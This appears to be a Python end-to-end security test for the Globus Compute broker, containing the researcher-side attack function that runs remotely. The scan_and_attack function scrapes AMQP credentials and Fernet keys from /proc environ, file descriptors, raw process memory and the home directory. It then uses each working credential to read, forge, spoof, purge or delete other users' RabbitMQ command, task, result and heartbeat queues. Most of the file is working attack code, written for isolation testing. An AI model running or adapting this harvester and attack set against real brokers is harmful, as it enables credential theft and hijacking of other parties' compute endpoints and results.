"""Researcher code for the broker-trust e2e test: unmodified official SDK, env-configured.

``scan ENDPOINT CONFIG TARGETS``: submit :func:`scan_and_attack`, which runs as
the researcher's own account on the endpoint, reads everything that account can
read of its own processes, and tries every broker credential it finds against
other parties' queues. ``hold ENDPOINT CONFIG FLAG``: submit a task that waits
until the file FLAG exists (so another test can act while it is pending); the
first output line is the task's id, the last its result.

Each mode prints JSON lines; the last one is the outcome.
"""

import json
import sys
import time

from globus_compute_sdk import Executor


def scan_and_attack(targets: dict) -> dict:
    """Find broker secrets in every process of my uid, then try each against others' queues.

    Self-contained (imports inside): it is serialized by value and runs remotely.
    """
    import contextlib
    import json
    import os
    import re
    import stat
    import time
    import uuid

    import pika

    url_pattern = re.compile(rb"amqps?://([^\s:/@\x00\"']+):([^\s@/\x00\"']+)@")
    found: dict = {}
    tokens, keys = set(), set()

    def harvest(blob: bytes, source: str) -> None:
        start = 0
        while True:
            at = blob.find(b"amqp", start)
            if at < 0:
                break
            match = url_pattern.match(blob, at)
            if match:
                user, password = (g.decode("latin-1") for g in match.groups())
                found.setdefault((user, password), set()).add(source)
            start = at + 4
        tokens.update(re.findall(rb"gAAAAA[A-Za-z0-9_=-]{40,}", blob)[:20])
        keys.update(re.findall(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}=", blob)[:500])

    me = os.getuid()
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        base = f"/proc/{pid}"
        try:
            if os.stat(base).st_uid != me:
                continue
        except OSError:
            continue
        for name in ("environ", "cmdline"):
            try:
                with open(f"{base}/{name}", "rb") as f:
                    harvest(f.read(), name)
            except OSError:
                pass
        try:
            fds = os.listdir(f"{base}/fd")
        except OSError:
            fds = []
        for fd in fds:
            path = f"{base}/fd/{fd}"
            try:
                if not stat.S_ISREG(os.stat(path).st_mode):
                    continue  # never drain a pipe or socket another process reads
                with open(path, "rb") as f:
                    harvest(f.read(16 << 20), "memfd" if "memfd" in os.readlink(path) else "file")
            except OSError:
                pass
        try:
            with open(f"{base}/maps") as f:
                regions = [line.split() for line in f]
            with open(f"{base}/mem", "rb", buffering=0) as mem:
                for region in regions:
                    if "r" not in region[1] or (len(region) > 5 and region[5].startswith("/")):
                        continue  # keep anonymous memory, heap and stacks
                    low, high = (int(x, 16) for x in region[0].split("-"))
                    if high - low > 64 << 20:
                        continue
                    try:
                        mem.seek(low)
                        harvest(mem.read(high - low), "memory")
                    except (OSError, ValueError, OverflowError):
                        pass
        except OSError:
            pass
    home = os.path.expanduser("~")
    for root, _dirs, files in os.walk(home):
        for name in files[:200]:
            try:
                with open(os.path.join(root, name), "rb") as f:
                    harvest(f.read(4 << 20), "file")
            except OSError:
                pass
    try:
        from cryptography.fernet import Fernet, InvalidToken

        for key in list(keys)[:500]:
            try:
                fernet = Fernet(key)
            except ValueError:
                continue
            for token in tokens:
                with contextlib.suppress(InvalidToken, ValueError):
                    harvest(fernet.decrypt(token), "memfd")
    except ImportError:
        pass
    found.setdefault(("guest", "guest"), set()).add("well-known")

    prefix = targets["prefix"]
    broker = targets["broker"]
    mep, other_uep = targets["manager_id"], targets["other_uep_id"]

    def attempt(user, password, action) -> str:
        params = pika.URLParameters(f"amqp://{user}:{password}@{broker}")
        params.connection_attempts = 1
        params.socket_timeout = 5
        try:
            connection = pika.BlockingConnection(params)
        except Exception as e:
            return f"refused: cannot connect ({type(e).__name__})"
        try:
            channel = connection.channel()
            channel.confirm_delivery()
            action(channel)
            return "allowed"
        except Exception as e:
            return f"refused: {type(e).__name__} {str(e)[:120]}"
        finally:
            with contextlib.suppress(Exception):
                connection.close()

    def publish(exchange, key, body=b"x", **props):
        return lambda ch: ch.basic_publish(
            exchange, key, body, pika.BasicProperties(**props), mandatory=False
        )

    commands = f"{prefix}{mep}.commands"
    forged_command = json.dumps({"command": "cmd_start_endpoint", "kwargs": {}}).encode()
    json_props = {"content_type": "application/json", "timestamp": int(time.time())}
    attacks = {
        "read_manager_commands": lambda ch: ch.basic_get(commands),
        "consume_manager_commands": lambda ch: ch.basic_consume(commands, lambda *a: None),
        "publish_command": publish(f"{prefix}commands", commands, forged_command, **json_props),
        "publish_command_default_exchange": publish("", commands, forged_command, **json_props),
        "read_other_task_queue": lambda ch: ch.basic_get(targets["other_task_queue"]),
        "inject_other_task": publish(f"{prefix}tasks", targets["other_task_queue"]),
        "read_service_results": lambda ch: ch.basic_get(f"{prefix}service.results"),
        "read_service_heartbeats": lambda ch: ch.basic_get(f"{prefix}service.heartbeats"),
        "read_other_clients_results": lambda ch: ch.basic_get(targets["other_sdk_queue"]),
        "declare_exchange": lambda ch: ch.exchange_declare(f"evil-{uuid.uuid4()}", "topic"),
        "declare_queue": lambda ch: ch.queue_declare(f"evil-{uuid.uuid4()}"),
        "declare_private_queue": lambda ch: ch.queue_declare("", exclusive=True),
        "bind_service_results": lambda ch: ch.queue_bind(
            f"{prefix}service.results", f"{prefix}results", "#"
        ),
        "delete_results_exchange": lambda ch: ch.exchange_delete(f"{prefix}results"),
        "delete_service_results": lambda ch: ch.queue_delete(f"{prefix}service.results"),
        "purge_service_results": lambda ch: ch.queue_purge(f"{prefix}service.results"),
        "publish_as_other_user_endpoint": publish(f"{prefix}results", f"{other_uep}.results"),
        "heartbeat_as_manager": publish(f"{prefix}heartbeats", f"{mep}.heartbeats"),
        "heartbeat_as_other": publish(f"{prefix}heartbeats", f"{other_uep}.heartbeats"),
    }
    report = {"credentials": [], "candidates": len(found), "attacks": {}}
    for (user, password), sources in sorted(found.items()):
        if attempt(user, password, lambda ch: None) != "allowed":
            continue  # not a credential this broker accepts (a template, a code literal, ...)
        report["credentials"].append({"user": user, "sources": sorted(sources)})
        outcomes = {name: attempt(user, password, action) for name, action in attacks.items()}
        mine = user.removeprefix(prefix).partition(".")[2]
        if user.removeprefix(prefix).startswith("uep."):
            outcomes["spoof_service_user_id"] = attempt(
                user,
                password,
                publish(f"{prefix}results", f"{mine}.results", user_id=targets["service_user"]),
            )
            outcomes["own_task_queue_passive"] = attempt(
                user,
                password,
                lambda ch, q=f"{prefix}{mine}.tasks": ch.queue_declare(q, passive=True),
            )
            forged = {
                "message_type": "result",
                "data": {"task_id": targets["other_task_id"], "data": "00\nforged\n"},
            }
            outcomes["forge_result_for_other_task"] = attempt(
                user,
                password,
                publish(
                    f"{prefix}results", f"{mine}.results", b"\x01" + json.dumps(forged).encode()
                ),
            )
            error = {
                "message_type": "ep_status_report",
                "data": {
                    "endpoint_id": other_uep,
                    "global_state": {"error": "forged failure", "heartbeat_period": 3},
                    "task_statuses": {},
                },
            }
            outcomes["forge_error_heartbeat_for_other"] = attempt(
                user,
                password,
                publish(
                    f"{prefix}heartbeats",
                    f"{mine}.heartbeats",
                    b"\x01" + json.dumps(error).encode(),
                ),
            )
        report["attacks"][user] = outcomes
    return report


def hold(flag: str, answer: str) -> str:
    """Wait (up to 150 s) until the file ``flag`` exists, then answer."""
    import os
    import time

    deadline = time.monotonic() + 150
    while not os.path.exists(flag) and time.monotonic() < deadline:
        time.sleep(0.2)
    return answer


def main(mode: str, endpoint_id: str, config: str, arg: str) -> dict:
    with Executor(endpoint_id=endpoint_id, user_endpoint_config=json.loads(config)) as ex:
        if mode == "scan":
            return ex.submit(scan_and_attack, json.loads(arg)).result(timeout=180)
        future = ex.submit(hold, arg, "the real result")
        deadline = time.monotonic() + 60
        while future.task_id is None and time.monotonic() < deadline:
            time.sleep(0.05)
        print(json.dumps({"task_id": future.task_id}))
        sys.stdout.flush()
        return {"result": future.result(timeout=200)}


if __name__ == "__main__":
    print(json.dumps(main(*sys.argv[1:5])))
